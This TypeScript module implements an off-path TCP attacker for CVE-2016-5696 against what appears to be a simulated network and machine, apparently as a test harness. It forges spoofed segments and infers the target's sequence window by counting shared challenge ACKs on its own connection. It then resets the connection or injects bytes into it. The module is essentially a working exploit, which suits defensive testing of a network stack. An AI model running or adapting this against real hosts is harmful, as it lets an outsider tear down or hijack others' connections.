// An attacker beside the path of a connection: it forges the source of what it sends, and sees only the answers to its own
// address. It has a connection of its own, and counts the challenges there: where all connections share a budget of
// them, one that is missing shows that a forged segment was challenged (CVE-2016-5696).
import type { Client } from "../../scripts/os/client.ts";
import { ACK, PSH, readTcp, RST, tcp } from "../../scripts/os/frames.ts";
import type { Wire } from "../../scripts/os/wire.ts";

const WINDOW = 4_096;
/** More challenges than any budget of a second has been. */
const PROBES = 12;
/** Forged segments in one second. */
const GROUP = 256;
/** QEMU's queue has 16 entries. */
const BATCH = 10;
/** The bytes that the attacker injects. */
export const INJECTED = Buffer.from("0123456789INJECT");

/** The connection that is attacked, and what the attacker knows of it: both numbers are among the `space` from these on. */
export interface Target {
  readonly source: number;
  readonly sourcePort: number;
  readonly port: number;
  readonly seqFrom: number;
  readonly ackFrom: number;
  readonly space: number;
}

export interface OffPath {
  /** Number of segments that were sent, its own among them. */
  readonly packets: number;
  /** One attempt each, the numbers that it tries moved by `offset`. */
  reset(offset: number): Promise<void>;
  inject(offset: number): Promise<void>;
  /** Whether the attacker sees that one of these was challenged. */
  sees(forged: readonly Buffer[]): Promise<boolean>;
}

/** `own`: its connection. `keep`: called at least every ten seconds of the machine's time, so that no connection ends in silence. */
export async function offPath(wire: Wire, own: () => Client, ownSource: number, target: Target, keep: () => Promise<void>): Promise<OffPath> {
  let packets = 0;
  let seconds = 0;

  const post = async (frames: readonly Buffer[]): Promise<number> => {
    let answers = 0;
    for (let at = 0; at < frames.length; at += BATCH) {
      const batch = frames.slice(at, at + BATCH);
      packets += batch.length;
      for (const frame of await wire.send(...batch)) if (readTcp(frame)?.to === ownSource) answers++;
    }
    return answers;
  };
  const forge = (seq: number, flags: number, ack = 0, data?: Buffer): Buffer => {
    const { source, sourcePort, port } = target;
    return tcp({ source, sourcePort, port, seq: seq >>> 0, ack: ack >>> 0, flags, ...(data !== undefined && { data }) });
  };
  /** Number of challenges at its own connection, after these. */
  const challenges = async (forged: readonly Buffer[]): Promise<number> => {
    if (seconds++ % 10 === 9) await keep();
    await wire.advance(1_000);
    await post(forged);
    return post(Array.from({ length: PROBES }, () => own().frame({ seq: (own().seq + 9) >>> 0, ack: 0, flags: RST })));
  };
  const usual = await challenges([]);
  const sees = async (forged: readonly Buffer[]): Promise<boolean> => (await challenges(forged)) < usual;

  /** A number in the window of the target, if the attacker finds one. */
  const inWindow = async (offset: number, made: (seq: number) => Buffer): Promise<number | null> => {
    for (let from = 0; from < target.space; from += GROUP * WINDOW) {
      let group = Array.from({ length: Math.min(GROUP, (target.space - from) / WINDOW) }, (_, i) => target.seqFrom + offset + from + i * WINDOW);
      if (!(await sees(group.map(made)))) continue;
      while (group.length > 1) {
        const half = group.slice(0, group.length >> 1);
        group = (await sees(half.map(made))) ? half : group.slice(half.length);
      }
      return group[0] ?? null;
    }
    return null;
  };

  return {
    get packets() {
      return packets;
    },
    sees,
    async reset(offset) {
      const made = (seq: number): Buffer => forge(seq, RST);
      const near = await inWindow(offset, made);
      if (near !== null) await post(Array.from({ length: WINDOW }, (_, i) => made(near - i)));
    },
    async inject(offset) {
      // An acknowledgement of what was never sent is challenged only in the window.
      const made = (seq: number): Buffer => forge(seq, ACK | PSH, target.ackFrom + 2 ** 31, INJECTED.subarray(0, 1));
      const near = await inWindow(offset, made);
      if (near === null) return;
      let [outside, first] = [near - WINDOW, near];
      while (first - outside > 1) {
        const middle = (first + outside) >> 1;
        if (await sees([made(middle)])) first = middle;
        else outside = middle;
      }
      const acks = Array.from({ length: target.space / WINDOW + 1 }, (_, i) => target.ackFrom + i * WINDOW);
      await post(acks.map((ack) => forge(first, ACK | PSH, ack, INJECTED)));
    },
  };
}
